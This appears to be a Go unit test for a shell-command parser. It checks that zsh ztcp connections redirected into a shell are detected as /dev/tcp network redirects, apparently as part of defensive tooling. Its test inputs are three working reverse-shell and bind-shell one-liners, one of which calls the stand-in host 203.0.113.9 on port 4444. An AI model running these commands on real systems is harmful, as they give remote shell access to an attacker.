package shell

import "testing"

// zsh's ztcp leaves a connection's descriptor in $REPLY, whether it opened
// it (ztcp HOST PORT) or accepted it on a port it listens on (ztcp -l PORT;
// ztcp -a $REPLY): a shell redirected to $REPLY talks to the network.
func TestZtcpConnections(t *testing.T) {
	for line, want := range map[string]string{
		`zmodload zsh/net/tcp; ztcp 203.0.113.9 4444; zsh <&$REPLY`:                "/dev/tcp/203.0.113.9/4444",
		`zmodload zsh/net/tcp; ztcp -l 4444; ztcp -a $REPLY; zsh <&$REPLY`:         "/dev/tcp/0.0.0.0/4444",
		`zsh -c 'zmodload zsh/net/tcp; ztcp -l 9000; ztcp -a $REPLY; sh <&$REPLY'`: "/dev/tcp/0.0.0.0/9000",
	} {
		r := Parse(line)
		found := false
		for _, c := range r.Commands {
			if c.Name != "zsh" && c.Name != "sh" {
				continue
			}
			for _, rd := range c.Redirects {
				if rd.Target == want {
					found = true
				}
			}
		}
		if !found {
			t.Errorf("%s: no shell redirected from %s in %+v", line, want, r.Commands)
		}
	}
}
